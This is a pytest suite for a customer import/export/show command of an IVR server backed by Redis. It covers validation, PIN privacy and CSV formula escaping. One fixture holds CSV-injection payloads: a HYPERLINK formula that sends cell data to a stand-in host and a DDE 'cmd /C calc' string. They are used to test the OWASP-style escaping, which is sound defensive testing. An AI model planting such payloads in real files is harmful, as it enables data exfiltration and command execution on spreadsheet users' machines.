"""`ivrserver customers import|export|show` in-process against the real Redis (--redis-url)."""

from __future__ import annotations

import argparse
import asyncio
import csv
import dataclasses
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
import redis
import redis.asyncio as aioredis
import yaml

from ivrserver.commands import customers as command
from ivrserver.domain import identification
from ivrserver.domain.model import Customer
from ivrserver.store import cases as case_store
from ivrserver.store import customers as store
from ivrserver.store.keys import Keys
from tests.conftest import TEST_PEPPER

KEYS = Keys(prefix="ivr")  # the CLI uses the configured prefix (default "ivr")


def cli(*argv: str) -> int:
    parser = argparse.ArgumentParser(prog="ivrserver")
    register_target = parser.add_subparsers(dest="command", required=True)
    command.register(register_target)
    args = parser.parse_args(list(argv))
    return int(args.func(args))


@pytest.fixture
def db(redis_url: str) -> Iterator[redis.Redis]:
    client = redis.Redis.from_url(redis_url, decode_responses=True)
    client.flushdb()
    yield client
    client.close()


def load(redis_url: str, customer_id: str) -> Customer | None:
    async def main() -> Customer | None:
        client = aioredis.Redis.from_url(redis_url, decode_responses=True)
        try:
            return await store.get_customer(client, KEYS, customer_id)
        finally:
            await client.aclose()
    return asyncio.run(main())


GOOD_CSV = """\
id,name,phones,tier,segment,language,account_manager,account_number,pin,timezone,allowed_from,allowed_until,do_not_call,attr.balance
c1,Wang Lei,15550001;155-5001-1,vip,enterprise,en,agent1001,80010001,0042,Asia/Shanghai,09:00,21:00,no,1250.00
c2,"Li, Na",15550002,gold,family,en,,80010002,2468,Europe/London,,,yes,37.20
c3,Zhang Wei,15550003,standard,individual,en,,,,,,,,12.50
"""

BAD_CSV = """\
id,name,phones,tier,segment,language,account_manager,account_number,pin,timezone,allowed_from,allowed_until,do_not_call,attr.balance
c1,Wang Lei,15550001,vip,enterprise,en,agent1001,80010001,0042,Asia/Shanghai,09:00,21:00,no,1250.00
c2,Li Na,not-a-phone,platinum,family,en,,80010002,24,Mars/Base,,,maybe,37.20
c3,Zhang Wei,15550003,standard,individual,en,,80010001,,,,,,12.50
c1,Again,15550004,standard,individual,en,,,,,,,,
"""


def test_import_good_csv(tmp_path: Path, redis_url: str, db: redis.Redis, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "customers.csv"
    path.write_text(GOOD_CSV)
    assert cli("customers", "import", str(path), "--redis-url", redis_url) == 0
    assert "imported 3 customer(s)" in capsys.readouterr().out
    c1 = load(redis_url, "c1")
    assert c1 is not None and c1.phones == ("15550001", "15550011") and c1.account_manager == "agent1001"
    assert c1.pin_hash is not None and identification.verify_pin("0042", c1.pin_hash, TEST_PEPPER)   # leading zero kept
    c2 = load(redis_url, "c2")
    assert c2 is not None and c2.name == "Li, Na" and c2.preferences.do_not_call is True
    assert c2.preferences.allowed_from == "09:00"
    assert db.smembers(KEYS.phone("15550011")) == {"c1"}
    assert "0042" not in db.get(KEYS.customer("c1"))


def test_bad_csv_imports_nothing_and_names_lines(tmp_path: Path, redis_url: str, db: redis.Redis,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "bad.csv"
    path.write_text(BAD_CSV)
    assert cli("customers", "import", str(path), "--redis-url", redis_url) == 1
    err = capsys.readouterr().err
    assert f"{path}:3: phones[0]: not a phone number" in err
    assert f"{path}:3: tier: must be one of vip, gold, standard" in err
    assert f"{path}:3: pin: must be 4-8 digits" in err
    assert f"{path}:3: preferences.timezone" in err
    assert f"{path}:3: preferences.do_not_call" in err
    assert f"{path}:4: account_number: same account number as line 2" in err
    assert f"{path}:5: id: duplicate of line 2" in err
    assert "nothing imported" in err
    assert ",24," not in err and " 24 " not in err  # the bad PIN is not echoed
    assert db.dbsize() == 0


def test_partial_imports_the_valid_rows(tmp_path: Path, redis_url: str, db: redis.Redis,
                                        capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "bad.csv"
    path.write_text(BAD_CSV)
    assert cli("customers", "import", str(path), "--partial", "--redis-url", redis_url) == 1
    out = capsys.readouterr().out
    assert "imported 1 customer(s), skipped 3 bad row(s)" in out
    assert load(redis_url, "c1") is not None and load(redis_url, "c2") is None and load(redis_url, "c3") is None


@pytest.mark.parametrize(("text", "message"), [
    ("id,name,colour\nc1,N,red\n", ":1: header: colour: unknown column"),
    ("id,phones\nc1,15550001\n", ":1: header: name: column is required"),
    ("id,name\nc1,N,extra\n", ":2: more cells than columns"),
    ("id,name\nc1,\"unterminated\n", "not valid CSV"),
    ("", ":1: empty file"),
])
def test_malformed_csv(tmp_path: Path, redis_url: str, db: redis.Redis, capsys: pytest.CaptureFixture[str],
                       text: str, message: str) -> None:
    path = tmp_path / "x.csv"
    path.write_text(text)
    assert cli("customers", "import", str(path), "--redis-url", redis_url) == 1
    assert message in capsys.readouterr().err
    assert db.dbsize() == 0


GOOD_YAML = """\
customers:
  - id: y1
    name: Chen Jie
    phones: [015550004, "+49 30 123"]
    tier: gold
    account_number: 00801234
    pin: 0123
    preferences: {timezone: Europe/Berlin, do_not_call: yes}
    attributes: {balance: 5.00, note: "VIP's spouse"}
  - id: y2
    name: No
    language: no
cases:
  - customer_id: y1
    summary: Line is noisy
    owner_agent: agent1003
    severity: 2
"""


def test_import_yaml_reads_scalars_as_text(tmp_path: Path, redis_url: str, db: redis.Redis,
                                           capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "c.yaml"
    path.write_text(GOOD_YAML)
    assert cli("customers", "import", str(path), "--redis-url", redis_url) == 0
    assert "imported 2 customer(s), opened 1 case(s)" in capsys.readouterr().out
    y1 = load(redis_url, "y1")
    assert y1 is not None
    assert y1.phones == ("015550004", "+4930123") and y1.account_number == "00801234"
    assert y1.pin_hash is not None and identification.verify_pin("0123", y1.pin_hash, TEST_PEPPER)
    assert y1.attributes == {"balance": "5.00", "note": "VIP's spouse"} and y1.preferences.do_not_call
    y2 = load(redis_url, "y2")
    assert y2 is not None and y2.name == "No" and y2.language == "no"
    assert db.zcard(KEYS.open_cases("y1")) == 1
    # Re-import: upsert, no second case, PIN kept.
    assert cli("customers", "import", str(path), "--redis-url", redis_url) == 0
    assert db.zcard(KEYS.open_cases("y1")) == 1 and db.zcard(KEYS.customer_ids()) == 2


@pytest.mark.parametrize(("text", "message"), [
    ("- id: a\n  name: A\n  tier: silver\n- id: b\n  name: [B]\n", ["x.yaml:1: tier:", "x.yaml:4: name: must be text"]),
    ("customers:\n  - id: a\n    name: A\n  - name: B\n", ["x.yaml:4: id: is required"]),
    ("base: &b {name: x}\ncustomers: [*b]\n", ["aliases"]),
    ("- id: a\n  name: [unclosed\n", ["not valid YAML"]),
    ("just text\n", ["expected a list of customers"]),
    ("customers:\n  - {id: a, name: A}\ncases:\n  - {customer_id: ghost, summary: s}\n",
     ["x.yaml:4: cases: customer_id: no such customer"]),
    ("customers: []\ncases:\n  - {customer_id: a}\n", ["x.yaml:3: cases: summary: is required"]),
])
def test_bad_yaml(tmp_path: Path, redis_url: str, db: redis.Redis, capsys: pytest.CaptureFixture[str],
                  text: str, message: list[str]) -> None:
    path = tmp_path / "x.yaml"
    path.write_text(text)
    assert cli("customers", "import", str(path), "--redis-url", redis_url) == 1
    err = capsys.readouterr().err
    for fragment in message:
        assert fragment in err
    assert db.dbsize() == 0


def test_account_owned_by_another_stored_customer(tmp_path: Path, redis_url: str, db: redis.Redis,
                                                  capsys: pytest.CaptureFixture[str]) -> None:
    first = tmp_path / "a.yaml"
    first.write_text("- {id: a, name: A, account_number: '12345678'}\n")
    assert cli("customers", "import", str(first), "--redis-url", redis_url) == 0
    second = tmp_path / "b.yaml"
    second.write_text("- {id: b, name: B, account_number: '12345678'}\n")
    assert cli("customers", "import", str(second), "--redis-url", redis_url) == 1
    assert "b.yaml:1: account_number: already belongs to customer a" in capsys.readouterr().err


def test_export_import_round_trip(tmp_path: Path, redis_url: str, db: redis.Redis,
                                  capsys: pytest.CaptureFixture[str]) -> None:
    src = tmp_path / "customers.csv"
    src.write_text(GOOD_CSV)
    assert cli("customers", "import", str(src), "--redis-url", redis_url) == 0
    for fmt in ("csv", "yaml"):
        before = {cid: load(redis_url, cid) for cid in ("c1", "c2", "c3")}
        assert before["c1"] is not None and before["c1"].pin_hash
        out = tmp_path / f"export.{fmt}"
        assert cli("customers", "export", "--format", fmt, "--output", str(out), "--redis-url", redis_url) == 0
        text = out.read_text()
        assert "pin" not in text.replace("has_pin", "") and "scrypt" not in text  # no PIN, no hash
        # Back into the same store: every customer as before, PINs kept.
        assert cli("customers", "import", str(out), "--redis-url", redis_url) == 0, capsys.readouterr().err
        assert {cid: load(redis_url, cid) for cid in before} == before
        # Into an empty store: everything but the PINs.
        db.flushdb()
        assert cli("customers", "import", str(out), "--redis-url", redis_url) == 0, capsys.readouterr().err
        assert {cid: load(redis_url, cid) for cid in before} == {
            cid: dataclasses.replace(c, pin_hash=None) for cid, c in before.items() if c is not None}
        assert cli("customers", "import", str(src), "--redis-url", redis_url) == 0
    capsys.readouterr()
    assert cli("customers", "export", "--format", "yaml", "--redis-url", redis_url) == 0
    exported = yaml.safe_load(capsys.readouterr().out)
    assert [c["id"] for c in exported["customers"]] == ["c1", "c2", "c3"]


def test_show(tmp_path: Path, redis_url: str, db: redis.Redis, capsys: pytest.CaptureFixture[str]) -> None:
    src = tmp_path / "customers.csv"
    src.write_text(GOOD_CSV)
    assert cli("customers", "import", str(src), "--redis-url", redis_url) == 0
    capsys.readouterr()
    assert cli("customers", "show", "c1", "--redis-url", redis_url) == 0
    shown = yaml.safe_load(capsys.readouterr().out)
    assert shown["customer"]["name"] == "Wang Lei" and shown["customer"]["has_pin"] is True
    assert "pin_hash" not in shown["customer"] and shown["open_cases"] == []
    assert cli("customers", "show", "nobody", "--redis-url", redis_url) == 1


def test_demo_customers_file_imports(repo_root: Path, redis_url: str, db: redis.Redis) -> None:
    assert cli("customers", "import", str(repo_root / "scripts" / "demo-customers.yaml"),
               "--redis-url", redis_url) == 0
    vip = load(redis_url, "c-vip-1")
    assert vip is not None and vip.tier.value == "vip" and vip.account_manager == "agent1001"

    async def open_cases() -> list[str | None]:
        client = aioredis.Redis.from_url(redis_url, decode_responses=True)
        try:
            return [c.owner_agent for c in await case_store.list_open_cases(client, KEYS, "c-vip-1")]
        finally:
            await client.aclose()
    assert asyncio.run(open_cases()) == ["agent1003"]
    std = load(redis_url, "c-std-1")
    assert std is not None and std.attributes["balance"] == "42.50"  # read with its cents (say: money)


@pytest.mark.parametrize(("argv", "code", "message"), [
    (["--redis-url", "http://x"], 2, "--redis-url"),
    (["--region", "4x"], 2, "--region: unknown region"),
    (["--default-country", "49"], 2, "--region: unknown region"),  # the old spelling takes a region now
    (["--redis-url", "redis://127.0.0.1:1/0"], 3, "Redis at"),
])
def test_usage_errors(tmp_path: Path, capsys: pytest.CaptureFixture[str], argv: list[str], code: int,
                      message: str) -> None:
    path = tmp_path / "c.csv"
    path.write_text(GOOD_CSV)
    assert cli("customers", "import", str(path), *argv) == code
    assert message in capsys.readouterr().err


@pytest.mark.parametrize(("argv", "expected"), [
    ([], ("+8613800000001", "10086", "15550001")),           # phone.default_region: CN
    (["--region", "CN"], ("+8613800000001", "10086", "15550001")),
    (["--region", ""], ("013800000001", "10086", "15550001")),  # no region: as written
])
def test_import_stores_numbers_in_the_one_normal_form(tmp_path: Path, redis_url: str, db: redis.Redis,
                                                      argv: list[str], expected: tuple[str, ...]) -> None:
    path = tmp_path / "c.yaml"
    path.write_text(yaml.safe_dump({"customers": [
        {"id": "c-cn", "name": "Wang Lei", "phones": ["013800000001", "10086", "1555-0001"]}]}))
    assert cli("customers", "import", str(path), "--redis-url", redis_url, *argv) == 0
    found = load(redis_url, "c-cn")
    assert found is not None and found.phones == expected


def test_unknown_extension_and_missing_file(tmp_path: Path, redis_url: str, db: redis.Redis,
                                            capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "c.txt"
    path.write_text(GOOD_CSV)
    assert cli("customers", "import", str(path), "--redis-url", redis_url) == 1
    assert "--format csv|yaml" in capsys.readouterr().err
    assert cli("customers", "import", str(path), "--format", "csv", "--redis-url", redis_url) == 0
    assert cli("customers", "import", str(tmp_path / "missing.csv"), "--redis-url", redis_url) == 1
    assert "cannot read" in capsys.readouterr().err


def test_real_command_line(repo_root: Path, redis_url: str, db: redis.Redis) -> None:
    """Through `python -m ivrserver` (the lead's cli.py wires register())."""
    import subprocess
    import sys

    result = subprocess.run(
        [sys.executable, "-m", "ivrserver", "customers", "import", str(repo_root / "scripts" / "demo-customers.yaml"),
         "--redis-url", redis_url], capture_output=True, text=True, timeout=60, cwd=repo_root)
    assert result.returncode == 0, result.stderr
    assert "imported 5 customer(s), opened 1 case(s)" in result.stdout
    assert db.zcard(KEYS.customer_ids()) == 5


FORMULA_CSV = """\
id,name,phones,account_number,pin,attr.balance,attr.note,attr.plain,attr.quoted
f1,=HYPERLINK(\"http://x.example/?\"&A1),+8613800000000;+4930123456,80010077,1234,-5,@SUM(A1:A9),'Tis ok,'=1+1
f2,+cmd|' /C calc'!A0,15550077,,,-0.5,"\t=tab","\r=cr",''
"""


def test_export_escapes_formulas_and_imports_back(tmp_path: Path, redis_url: str, db: redis.Redis,
                                                  capsys: pytest.CaptureFixture[str]) -> None:
    """OWASP CSV injection: cells a spreadsheet would run begin with ' in the export; import drops it."""
    src = tmp_path / "formulas.csv"
    src.write_text(FORMULA_CSV)
    assert cli("customers", "import", str(src), "--redis-url", redis_url, "--region", "") == 0, \
        capsys.readouterr().err
    before = {cid: load(redis_url, cid) for cid in ("f1", "f2")}
    f1 = before["f1"]
    assert f1 is not None and f1.name.startswith("=HYPERLINK") and f1.phones[0] == "+8613800000000"
    assert f1.attributes["quoted"] == "=1+1" and f1.attributes["plain"] == "'Tis ok"
    out = tmp_path / "export.csv"
    assert cli("customers", "export", "--output", str(out), "--redis-url", redis_url) == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(), newline="")))
    assert "pin_hash" not in rows[0] and "pin" not in rows[0]
    for row in rows:
        for column, cell in row.items():
            assert not cell or cell[0] not in "=+-@\t\r", (column, cell)  # nothing a spreadsheet runs
    r1 = {r["id"]: r for r in rows}["f1"]
    assert r1["name"].startswith("'=HYPERLINK") and r1["phones"] == "'+8613800000000;+4930123456"
    assert r1["attr.balance"] == "'-5" and r1["attr.note"] == "'@SUM(A1:A9)"
    assert r1["attr.plain"] == "''Tis ok" and r1["attr.quoted"] == "'=1+1"
    db.flushdb()
    assert cli("customers", "import", str(out), "--redis-url", redis_url, "--region", "") == 0, \
        capsys.readouterr().err
    after = {cid: load(redis_url, cid) for cid in before}
    assert after == {cid: dataclasses.replace(c, pin_hash=None) for cid, c in before.items() if c is not None}


@pytest.mark.parametrize(("cell", "escaped"), [
    ("=1+1", "'=1+1"), ("+86138", "'+86138"), ("-5", "'-5"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("'=x", "''=x"), ("'Tis", "''Tis"), ("plain", "plain"), ("", ""), ("a=b", "a=b"),
])
def test_csv_escape_round_trip(cell: str, escaped: str) -> None:
    assert command.csv_escape(cell) == escaped
    assert command.csv_unescape(escaped) == cell
